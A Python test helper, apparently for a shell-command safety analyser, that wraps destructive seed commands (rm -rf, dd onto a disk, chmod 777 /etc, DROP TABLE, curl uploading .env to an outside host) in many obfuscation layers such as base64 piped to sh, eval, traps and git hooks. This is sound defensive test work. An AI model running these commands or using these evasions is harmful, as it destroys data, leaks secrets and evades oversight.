"""Other spellings of the same command: the effects of each must be at least those of the plain one.

A spelling is drawn: words are quoted, encoded or computed in other ways, then the whole is wrapped up to `MAX_WRAPS` times.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import json
from typing import TYPE_CHECKING

from tests.lower.shell.fragments import ansi, double, escaped, single

if TYPE_CHECKING:
    from random import Random

MAX_WRAPS = 3
SEEDS: tuple[tuple[str, ...], ...] = (
    ("rm", "-rf", "notes"),
    ("rm", "-f", "a b", "c$d"),
    ("unlink", "app.sqlite"),
    ("git", "push", "--force", "origin", "main"),
    ("git", "clean", "-fdx"),
    ("git", "reset", "--hard"),
    ("shred", "-u", "notes.db"),
    ("truncate", "-s", "0", "app.db"),
    ("cp", "/dev/null", "app.db"),
    ("mv", "app.db", "/tmp/gone"),
    ("chmod", "-R", "777", "/etc"),
    ("dd", "if=/dev/zero", "of=/dev/sda"),
    ("curl", "-d", "@.env", "https://example.com/in"),
    ("crontab", "-r"),
    ("find", ".", "-name", "*.db", "-delete"),
    ("tee", "-a", "/etc/hosts"),
    ("kill", "-9", "1"),
    ("some-program-nobody-knows", "--all"),
    ("kubectl", "delete", "namespace", "shop"),
    ("terraform", "destroy", "-auto-approve"),
    ("psql", "-h", "db", "shop", "-c", "DROP TABLE users"),
    ("docker", "volume", "rm", "data"),
    ("aws", "s3", "rm", "s3://backups", "--recursive"),
    ("ssh", "host", "dropdb shop"),
)


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def hexed(text: str) -> str:
    return "".join(f"\\x{byte:02x}" for byte in text.encode())


def end(text: str) -> str:
    """A list that something follows on the same line."""
    return text if text.endswith("\n") else f"{text};"


def quoted_string(text: str) -> str:
    """As Perl, Ruby and PHP write a text between single quotes."""
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


# ------------------------------------------------------------------------------------------------------------- words
def cut(text: str) -> str:
    """Quotes and backslashes spliced into a word."""
    return (
        "".join(("''" if n % 3 == 0 else "\\" if n % 3 == 1 else '""') + char for n, char in enumerate(text))
        if (text.isascii() and text.replace("-", "").isalnum())
        else single(text)
    )


def octal(text: str) -> str:
    return "$'" + "".join(f"\\{ord(char):03o}" for char in text) + "'"


WORDS = (
    single,
    double,
    ansi,
    escaped,
    cut,
    octal,
    lambda text: f'"${{nothing_here:+}}"{single(text)}',
    lambda text: f'"$(printf %s {single(text)})"',
    lambda text: f'"`printf %s {single(text)}`"' if not {"$", "\\"} & set(text) else single(text),
    lambda text: f'"$(base64 -d <<< {encoded(text)})"',
    lambda text: f'"$(echo {single(text[::-1])} | rev)"',
    lambda text: f"{double(text[:2])}{single(text[2:])}",
)
"""Ways to write one word where it stands."""
SET_BEFORE = (
    lambda name, text: (f"{name}={single(text)}; ", f'"${name}"'),
    lambda name, text: (f"{name}={single('/' + text)}; ", f'"${{{name}#/}}"'),
    lambda name, text: (f"{name}={single(text + ',,')}; ", f'"${{{name}%,,}}"'),
    lambda name, text: (f"{name}={single('0' + text)}; ", f'"${{{name}:1}}"'),
    lambda name, text: (f"printf -v {name} %s {single(text)}; ", f'"${{{name}}}"'),
    lambda name, text: (f"{name}=({single(text)}); ", f'"${{{name}[0]}}"'),
    lambda name, text: (f"{name}={single(text[:2])}; {name}+={single(text[2:])}; ", f'"${name}"'),
    lambda name, text: (f"{name}w={single(text)}; {name}={name}w; ", f'"${{!{name}}}"'),
    lambda name, text: (f"{name}() {{ printf %s {single(text)}; }}; ", f'"$({name})"'),
    lambda name, text: (f"read -r {name} <<< {single(text)}; ", f'"${name}"'),
    lambda name, text: (f"unset {name}; ", f'"${{{name}:-{text}}}"' if text.isalnum() else double(text)),
    lambda name, text: (f"export {name}={single(text)}; ", f'"${{{name}?}}"'),
)
"""Ways to compute one word before."""

# ---------------------------------------------------------------------------------------------------------- wrappers
SHELLS = (
    lambda text: f"bash -c {single(text)}",
    lambda text: f"sh -c {double(text)}",
    lambda text: f"zsh -c {single(text)}",
    lambda text: f"busybox sh -c {single(text)}",
    lambda text: f"eval {single(text)}",
    lambda text: f"builtin eval {single(text)}",
    lambda text: f"bash <<'END{len(text)}'\n{text}\nEND{len(text)}\n",
    lambda text: f"bash <<< {single(text)}",
    lambda text: f"source /dev/stdin <<< {single(text)}",
    lambda text: f". <(printf %s {single(text)})",
    lambda text: f"bash <(printf %s {single(text)})",
    lambda text: f"printf %s {single(text)} | sh -s",
    lambda text: f"printf %s {single(text)} | bash /dev/stdin",
    lambda text: f"exec 3<<< {single(text)}; bash <&3",
    lambda text: f"(exec bash -c {single(text)})",
)
GRAMMAR = (
    lambda text: f"( {text} )",
    lambda text: f"{{ {end(text)} }}",
    lambda text: f"go() {{ {end(text)} }}; go",
    lambda text: f"own() {{ {end(text)} }}; export -f own; bash -c own",
    lambda text: f"true && {{ {end(text)} }}",
    lambda text: f"[[ 1 ]] && {{ {end(text)} }}",
    lambda text: f"((1)) && {{ {end(text)} }}",
    lambda text: f"make; {text}",
    lambda text: f"if true; then {end(text)} fi",
    lambda text: f"if test -e x; then :; else {end(text)} fi",
    lambda text: f"for i in 1; do {end(text)} done",
    lambda text: f"while :; do {end(text)} break; done",
    lambda text: f"until false; do {end(text)} break; done",
    lambda text: f"case x in *) {text}\n;; esac",
    lambda text: f"{{ {end(text)} }} & wait",
    lambda text: f"echo $( {text} )",
    lambda text: (
        f"x=`bash -c {single(text).replace(chr(92), chr(92) * 2).replace('`', chr(92) + '`').replace('$', chr(92) + '$')}`"
    ),
    lambda text: f"cat <( {text} )",
    lambda text: f"echo x | tee >( {text} )",
    lambda text: f"trap {single(text)} EXIT",
    lambda text: f"trap {single(text)} ERR; false",
    lambda text: f"trap {single(text)} DEBUG; true",
    lambda text: f"! time {{ {end(text)} }}",
    lambda text: f"coproc {{ {end(text)} }}",
    lambda text: f"{{ {end(text)} }} 2>/dev/null | cat",
    lambda text: f"{{ {end(text)} }} |& cat",
)
VARIABLES = (
    lambda text: f'export CODE={single(text)}; bash -c "$CODE"',
    lambda text: f"x={single(text)} bash -c 'eval \"$x\"'",
    lambda text: f'set -- {single(text)}; eval "$1"',
    lambda text: f'set -- {single(text)}; bash -c "$@"',
    lambda text: f'read -r line <<< {single(text)}; eval "$line"' if "\n" not in text else text,
    lambda text: f'while read -r l; do eval "$l"; done <<< {single(text)}' if "\n" not in text else text,
    lambda text: f'mapfile -t l <<< {single(text)}; eval "${{l[0]}}"' if "\n" not in text else text,
    lambda text: f'printf -v c %s {single(text)}; eval "$c"',
    lambda text: f'a=(bash -c {single(text)}); "${{a[@]}}"',
    lambda text: f'a={single(text[: len(text) // 2])}; b={single(text[len(text) // 2 :])}; eval "$a$b"',
    lambda text: f"eval \"$(cat <<'Z{len(text)}'\n{text}\nZ{len(text)}\n)\"",
    lambda text: f"shopt -s expand_aliases\nalias q={single(text)}\nq" if "\n" not in text else text,
)
CODES = (
    lambda text: f"echo {encoded(text)} | base64 -d | sh",
    lambda text: f"echo {encoded(text)} | openssl base64 -d -A | bash",
    lambda text: f"xxd -r -p <<< {text.encode().hex()} | sh",
    lambda text: f"printf '{hexed(text)}' | sh",
    lambda text: f"echo -e '{hexed(text)}' | bash",
    lambda text: f"base64 -d <<< {base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()} | gunzip | sh",
    lambda text: (
        f"echo {single(codecs.encode(text, 'rot13'))} | tr A-Za-z N-ZA-Mn-za-m | sh" if "\\n" not in text else text
    ),
    lambda text: f"echo {single(text[::-1])} | rev | sh" if "\n" not in text else text,
    lambda text: f"cut -c2- <<< {single('#' + text)} | sh" if "\n" not in text else text,
    lambda text: f"sed 's/@#@//' <<< {single('@#@' + text)} | sh" if "\n" not in text else text,
    lambda text: f"jq -r .x <<< {single(json.dumps({'x': text}))} | sh",
)
WRITTEN = (
    lambda text: f"printf '%s\\n' {single(text)} > run{len(text)}.sh; bash run{len(text)}.sh",
    lambda text: (
        f"cat > r{len(text)}.sh <<'END{len(text)}'\n{text}\nEND{len(text)}\nchmod +x r{len(text)}.sh && ./r{len(text)}.sh"
    ),
    lambda text: f"printf %s {single(text)} | tee t{len(text)}.sh | bash",
    lambda text: f"printf %s {single(text)} > a{len(text)}; cp a{len(text)} b{len(text)}; mv b{len(text)} c; sh c",
    lambda text: (
        f"printf %s {single(text[:9])} > h{len(text)}; printf %s {single(text[9:])} >> h{len(text)}; sh h{len(text)}"
    ),
    lambda text: f"printf %s {single('unset BASH_ENV; ' + text)} > e{len(text)}.sh; BASH_ENV=e{len(text)}.sh bash -c :",
    lambda text: (
        f"printf %s {single(text)} > m{len(text)}; printf 'x:\\n\\tsh m{len(text)}\\n' > M{len(text)}; make -f M{len(text)} x"
    ),
    lambda text: (
        f"printf 'all:\\n\\t%s\\n' {single(text.replace('$', '$$'))} > M{len(text)} && make -f M{len(text)}"
        if "\n" not in text
        else text
    ),
    lambda text: (
        f"make -f /dev/null --eval {single('x: ; ' + text.replace('$', '$$'))} x"
        if not {"\n", "#"} & set(text)
        else text
    ),
    lambda text: (
        f"printf 'x:\\n  %s\\n' {single(text.replace('{{', '{{{{'))} > justfile && just x" if "\n" not in text else text
    ),
    lambda text: f"echo {single(json.dumps({'scripts': {'x': text}}))} > package.json && npm run x",
    lambda text: (
        f"printf '#!/bin/bash\\n%s\\n' {single(text)} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -m x"
    ),
)
PROGRAMS = (
    lambda text: f"env A=1 bash -c {single(text)}",
    lambda text: f"env -S 'bash -e' -c {single(text)}",
    lambda text: f"timeout 9 bash -c {single(text)}",
    lambda text: f"nohup bash -c {single(text)} & wait",
    lambda text: f"nice -n 5 stdbuf -o0 setsid bash -c {single(text)}",
    lambda text: f"command bash -c {single(text)}",
    lambda text: f"sudo bash -c {single(text)}",
    lambda text: f"su -c {single(text)}",
    lambda text: f"flock /tmp/l -c {single(text)}",
    lambda text: f"script -qc {single(text)} /dev/null",
    lambda text: f"tmux new-session -d {single(text)}",
    lambda text: f"watch -n 1 {single(text)}",
    lambda text: f"at now <<< {single(text)}",
    lambda text: f"systemd-run bash -c {single(text)}",
    lambda text: f"parallel ::: {single(text)}",
    lambda text: f"echo x | xargs -I% bash -c {single(text)}" if "%" not in text else text,
    lambda text: f"printf '%s\\0' {single(text)} | xargs -0 bash -c",
    lambda text: f"find . -maxdepth 0 -exec bash -c {single(text)} \\;" if "{}" not in text else text,
    lambda text: f"git -c alias.x={single('!' + text)} x",
    lambda text: f"echo x | sed {single('1e ' + text)}" if "\n" not in text else text,
)
LANGUAGES = (
    lambda text: "python3 -c " + single(f"import os; os.system({text!r})"),
    lambda text: "python3 -c " + single(f"import subprocess as s; s.run({text!r}, shell=True)"),
    lambda text: (
        f"python3 - <<'P{len(text)}'\nimport subprocess\nsubprocess.call(['sh', '-c', {text!r}])\nP{len(text)}\n"
    ),
    lambda text: "node -e " + single(f'require("child_process").execSync({json.dumps(text)})'),
    lambda text: "perl -e " + single(f"system {quoted_string(text)}"),
    lambda text: "ruby -e " + single(f"system {quoted_string(text)}"),
    lambda text: "php -r " + single(f"system({quoted_string(text)});"),
    lambda text: "awk " + single(f"BEGIN {{ system({json.dumps(text)}) }}"),
)
WRAPPERS = (*SHELLS, *GRAMMAR, *VARIABLES, *CODES, *WRITTEN, *PROGRAMS, *LANGUAGES)


def plain(seed: tuple[str, ...]) -> str:
    return " ".join(
        word if word.replace("-", "a").replace("/", "a").replace(".", "a").isalnum() else single(word) for word in seed
    )


def spelled(rng: Random, seeds: tuple[tuple[str, ...], ...] = SEEDS) -> tuple[str, str]:
    """A seed's plain form, and a text that is another spelling of it."""
    seed = rng.choice(seeds)
    before, words = "", []
    for index, word in enumerate(seed):
        if rng.randrange(4) == 0:
            setting, reference = rng.choice(SET_BEFORE)(f"v{index}", word)
            before += setting
            words.append(reference)
        else:
            words.append(rng.choice(WORDS)(word))
    text = before + " ".join(words)
    for _ in range(rng.randrange(MAX_WRAPS + 1)):
        text = rng.choice(WRAPPERS)(text)
    return plain(seed), text
